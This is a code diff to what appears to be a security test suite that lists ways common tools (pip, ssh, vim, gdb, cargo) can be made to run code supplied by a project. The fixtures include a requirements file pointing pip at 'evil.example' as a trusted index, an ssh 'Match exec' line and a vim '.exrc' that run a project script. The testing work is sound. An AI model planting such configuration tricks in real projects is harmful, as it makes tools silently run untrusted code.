@@ -134,10 +134,11 @@ export const otherProgramCases: readonly BorrowedCase[] = family("other programs
   },
   {
     ...{ id: "pip-index", title: "a requirements file names a stranger's index" },
-    files: { "requirements.txt": "--index-url http://evil.example/simple\nleft-pad\n" },
-    acts: [
-      "pip3 download --no-deps --break-system-packages --retries 0 --timeout 3 -r requirements.txt -d out",
-    ],
+    files: {
+      "requirements.txt":
+        "--index-url http://evil.example/simple\n--trusted-host evil.example\nleft-pad\n",
+    },
+    acts: ["pip3 download --no-deps --retries 0 --timeout 3 -r requirements.txt -d out"],
   },
   {
     ...{ id: "cargo-wrapper", title: "`rustc-wrapper` of the project's cargo settings" },
@@ -331,7 +332,7 @@ export const otherProgramCases: readonly BorrowedCase[] = family("other programs
     ...{ id: "ssh-include", title: "`Include` in the home leads into the project" },
     homeFiles: { ".ssh/config": "Include <project>/ssh.conf\n" },
     files: { "ssh.conf": "Match exec <project>/tools/x\n\tUser a\n", ...opaque("tools/x") },
-    acts: ["ssh -G build"],
+    acts: ["ssh -F ~/.ssh/config -G build"],
   },
   {
     ...{ id: "rsync-shell", title: "`rsync` by a script of the project in place of ssh" },
@@ -367,11 +368,10 @@ export const otherProgramCases: readonly BorrowedCase[] = family("other programs
     acts: ["gdb -q -batch -iex 'set auto-load safe-path /' -ex quit"],
   },
   {
-    ...{ id: "vim-exrc", title: "`.exrc` of the project where settings allow it" },
+    ...{ id: "vim-exrc", title: "a start file of vim in the project" },
     needs: ["vim"],
-    homeFiles: { ".vimrc": "set exrc nosecure\n" },
     files: { ".exrc": "silent !./tools/x\n", ...opaque("tools/x") },
-    acts: ["vim -e -s -c q README.md < /dev/null"],
+    acts: ["vim -u .exrc -e -s -c q README.md < /dev/null"],
   },
   {
     ...{ id: "tmux-conf", title: "a settings file of tmux" },
